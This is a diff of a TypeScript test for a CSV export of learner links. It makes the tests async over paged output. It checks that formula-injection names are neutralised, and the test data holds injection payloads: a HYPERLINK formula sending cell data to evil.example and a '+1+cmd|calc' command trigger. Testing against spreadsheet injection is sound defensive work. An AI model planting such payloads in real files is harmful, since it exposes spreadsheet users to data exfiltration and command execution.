@@ -13,7 +13,15 @@ describe('the file of links', () => {
     learner: { name, email: `${name}@x.example`, externalId: name },
   })
 
-  it('begins no cell with what a spreadsheet would calculate (S2)', () => {
+  /** In two pages. */
+  async function csvOf(names: readonly string[]): Promise<string> {
+    const links = names.map(one)
+    let text = ''
+    for await (const piece of linksCsv([links.slice(0, 4), links.slice(4)])) text += piece
+    return text
+  }
+
+  it('begins no cell with what a spreadsheet would calculate (S2)', async () => {
     const names = [
       '=HYPERLINK("https://evil.example?"&A1)',
       '+1+cmd|calc',
@@ -26,7 +34,7 @@ describe('the file of links', () => {
       '－1',
       '＠A1',
     ]
-    const rows = parse([...linksCsv(names.map(one))].join(''), { bom: true, columns: true })
+    const rows = parse(await csvOf(names), { bom: true, columns: true })
     expect(rows).to.have.length(names.length)
     for (const row of rows as Record<string, string>[]) {
       for (const column of ['name', 'email', 'externalId']) {
@@ -36,9 +44,9 @@ describe('the file of links', () => {
     }
   })
 
-  it('leaves other names as they are, quotes and line breaks inside', () => {
+  it('leaves other names as they are, quotes and line breaks inside', async () => {
     const names = ['Zoé L’Hôte', 'a "b", c', 'O;P', 'two\nlines', '1=1']
-    const rows = parse([...linksCsv(names.map(one))].join(''), { bom: true, columns: true })
+    const rows = parse(await csvOf(names), { bom: true, columns: true })
     expect((rows as Record<string, string>[]).map(({ name }) => name)).to.deep.equal(names)
   })
 })
